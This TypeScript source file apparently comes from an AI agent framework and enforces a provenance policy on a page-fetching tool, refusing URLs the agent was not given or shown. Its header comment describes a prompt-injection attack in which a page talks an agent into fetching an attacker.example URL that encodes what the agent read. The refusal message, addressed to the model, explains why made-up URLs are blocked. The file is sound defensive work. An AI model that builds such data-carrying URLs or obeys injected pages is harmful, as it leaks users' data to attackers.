/**
 * Where fetch_page may go. A GET is a way out too: an agent that read something in its context (a page,
 * a memory, a file) can be talked by a prompt-injected page into fetching
 * `https://attacker.example/?d=<what it read>`. Under the default `fetchPolicy: "provenance"` the agent
 * fetches only URLs it was given or shown in this run:
 * - written in the goal's objective or constraints (a bare host name there, e.g. "news.ycombinator.com",
 *   gives its front page), or as a full URL in the run's input (a bare name in a payload is too often
 *   an address's domain or a package name to count),
 * - a web_search result, or a link on a page fetched earlier in this run (tools with `links`),
 * - or any URL on the goal's allowedDomains.
 * It can follow links and search results, but not make up a URL that encodes what it read. A goal opts
 * out with `fetchPolicy: "any"`. Provenance is rebuilt from the run's stored results on resume.
 */
import type { GoalRow } from "../db/schema";
import { domainMatches } from "../net/guarded-fetch";
import { inputText } from "./untrusted";

/** A URL in text ends at a character that never appears unescaped in one. */
const URL_IN_TEXT = /https?:\/\/[^\s"<>`{}|\\^]+/gi;
/** A host name written without a scheme: "news.ycombinator.com". */
const BARE_HOST = /(?<![\w@./-])(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,}(?![\w@-])/gi;
const TRAILING = new Set([...".,;:!?*_~'"]);

const count = (s: string, ch: string) => s.split(ch).length - 1;

/** The URLs in `text`, as written and without trailing punctuation or an unbalanced ")" or "]" (markdown links, prose). */
export function urlsIn(text: string): string[] {
  const out: string[] = [];
  for (const [raw] of text.matchAll(URL_IN_TEXT)) {
    out.push(raw);
    let u = raw;
    for (;;) {
      const last = u.at(-1)!;
      if (TRAILING.has(last) || (last === ")" && count(u, "(") < count(u, ")")) || (last === "]" && count(u, "[") < count(u, "]"))) u = u.slice(0, -1);
      else break;
    }
    if (u !== raw) out.push(u);
  }
  return out;
}

/**
 * What makes two URLs the same page here: the host as the URL parser writes it (lower case, punycode, no
 * default port), the path without a trailing slash and the query exactly; not the fragment or http/https.
 * A known URL with another query is another URL: a query is where made-up data would go.
 */
export function urlKey(raw: string | URL): string | null {
  let u: URL;
  try {
    u = new URL(raw);
  } catch {
    return null;
  }
  if (u.protocol !== "http:" && u.protocol !== "https:") return null;
  // At most one trailing slash is dropped: a run of them could carry made-up data in its length.
  return `${u.host}${u.pathname.replace(/\/$/, "")}${u.search}`;
}

/** The URLs one run may fetch; fed by the results of tools with `links` as the run goes. */
export class Provenance {
  private readonly known = new Set<string>();

  constructor(
    private readonly goal: Pick<GoalRow, "objective" | "params">,
    input: unknown = null,
  ) {
    const given = `${goal.objective}\n${goal.params.constraints ?? ""}`;
    this.add(urlsIn(given));
    this.add((given.match(BARE_HOST) ?? []).map((host) => `https://${host}/`));
    this.add(urlsIn(inputText(input) ?? ""));
  }

  add(urls: Iterable<string>): void {
    for (const u of urls) {
      const key = urlKey(u);
      if (key) this.known.add(key);
    }
  }

  /** null when the goal may fetch `url`; otherwise why not and how to allow it (the model and the user read it). */
  refusal(url: string): string | null {
    if (this.goal.params.fetchPolicy === "any") return null;
    let u: URL;
    try {
      u = new URL(url);
    } catch {
      return null; // not a URL: the egress guard says so
    }
    if (this.goal.params.allowedDomains?.some((d) => domainMatches(u, d))) return null;
    const key = urlKey(u);
    if (key === null || this.known.has(key)) return null;
    return (
      `refused ${url.slice(0, 200)}: this URL is not in the objective, the run's input, a search result or a page fetched in this run. ` +
      "Follow links and search results as they were shown; a URL made up from what you read is not fetched (it could carry data out). " +
      `To allow it, the user adds "${u.port ? u.host : u.hostname}" to the goal's params.allowedDomains or sets params.fetchPolicy to "any".`
    );
  }
}
